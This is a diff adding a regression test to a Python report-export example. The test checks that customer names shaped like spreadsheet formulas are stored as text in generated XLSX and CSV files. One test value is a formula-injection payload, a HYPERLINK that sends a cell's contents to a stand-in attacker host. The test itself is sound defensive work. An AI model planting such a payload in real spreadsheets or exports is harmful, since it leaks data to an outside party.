@@ -16,6 +16,7 @@ from schedkit_examples.powertrade.domain import PowertradeRepository
 from schedkit_examples.powertrade.domain.sql import SQLRepository
 from schedkit_examples.powertrade.tasks.data.archive import DataArchiveTask
 from schedkit_examples.powertrade.tasks.report.annual_report import AnnualReportTask
+from schedkit_examples.powertrade.tasks.report.common import Column, Sheet, write_report
 from schedkit_examples.powertrade.tasks.report.daily_report import DailyReportTask
 from schedkit_examples.powertrade.tasks.report.monthly_report import MonthlyReportTask
 
@@ -162,3 +163,21 @@ async def test_report_parameters_are_validated(
         await make_task(MonthlyReportTask, sample_url).execute(month="2025-13")
     with pytest.raises(pydantic.ValidationError):
         await make_task(DailyReportTask, sample_url).execute(as_of=AS_OF, colour="red")
+
+
+def test_a_customer_name_like_a_formula_stays_text_in_both_files(tmp_path: Path) -> None:
+    """A security audit: a customer named "=HYPERLINK(...)" became a live formula in the
+    XLSX (openpyxl takes text starting with "=" as one) and in the CSV, both downloaded
+    by viewers from the console. Numbers, negative ones too, stay numbers."""
+    name = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    sheet = Sheet("客户", [Column("customer_name", "客户名称"), Column("amount", "金额")], [])
+    sheet.rows.extend([[name, -12.5], ["@SUM(1)", 3.0], ["华东电力", 1.0]])
+    files = write_report(tmp_path, "daily", "2026-12-01", [("日期", "2026-12-01")], [sheet])
+    ws = openpyxl.load_workbook(tmp_path / files[0])["客户"]
+    cells = [(c.value, c.data_type) for row in ws.iter_rows(min_row=2) for c in row]
+    assert cells == [
+        (name, "s"), (-12.5, "n"), ("@SUM(1)", "s"), (3, "n"), ("华东电力", "s"), (1, "n"),
+    ]  # fmt: skip
+    rows = read_csv(tmp_path / files[1])
+    assert [r["customer_name"] for r in rows] == ["'" + name, "'@SUM(1)", "华东电力"]
+    assert [r["amount"] for r in rows] == ["-12.5", "3.0", "1.0"]
